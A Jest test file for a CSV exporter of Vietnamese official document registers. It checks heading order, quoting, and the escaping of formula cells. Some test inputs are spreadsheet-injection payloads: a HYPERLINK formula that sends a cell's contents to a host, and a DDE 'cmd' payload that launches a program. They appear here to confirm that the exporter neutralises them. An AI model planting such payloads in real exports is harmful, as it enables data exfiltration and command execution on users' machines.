import { describe, expect, test } from '@jest/globals';
import { incomingRegister, outgoingRegister } from './register-columns.js';
import { registerCsv } from './register-csv.js';

const row = {
  ...{
    numberAndSymbol: '07/QĐ-UBND',
    documentDate: '05/03/2025',
    kindAndAbstract: 'Quyết định về việc "khen thưởng", tặng quà',
  },
  ...{ signer: 'Trần Văn Bình', recipients: 'Sở Nội vụ\nHuyện ủy', fileCopyHolder: 'VT', copies: '01' },
  ...{ handedOverOn: '05/03/2025', receivedBy: '', remarks: '=1+1' },
};

describe('books as CSV', () => {
  test('R-OUT-14: the ten headings in order, quoted where commas, quotes and line breaks ask for it', () => {
    const csv = registerCsv(outgoingRegister, [row]);
    expect(csv.startsWith('\ufeff"Số, ký hiệu văn bản",Ngày tháng văn bản,')).toBe(true);
    const line = csv.split('\r\n')[1] ?? '';
    expect(line).toBe(
      `07/QĐ-UBND,05/03/2025,"Quyết định về việc ""khen thưởng"", tặng quà",Trần Văn Bình,"Sở Nội vụ\nHuyện ủy",VT,01,05/03/2025,,'=1+1`,
    );
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  test.each([
    ['-HYPERLINK("http://a/?x="&B2)', true],
    ["-cmd|'/c calc'!A1", true],
    [' =1+1', true],
    ['- Như Điều 3;', false],
    ['-', false],
  ])('what a spreadsheet would run is text: %s', (remarks, isGuarded) => {
    const cell = remarks.replaceAll('"', '""');
    const line = registerCsv(outgoingRegister, [{ ...row, remarks }]).split('\r\n')[1] ?? '';
    expect(line.includes(`'${cell}`)).toBe(isGuarded);
    expect(line).toContain(cell);
  });

  test('R-IN-06: a book without lines still has its ten headings', () => {
    expect(registerCsv(incomingRegister, [])).toBe(
      '\ufeffNgày đến,Số đến,Tác giả,"Số, ký hiệu văn bản",Ngày tháng văn bản,Tên loại và trích yếu nội dung văn bản,Đơn vị hoặc người nhận,Ngày chuyển,Ký nhận,Ghi chú\r\n',
    );
  });
});
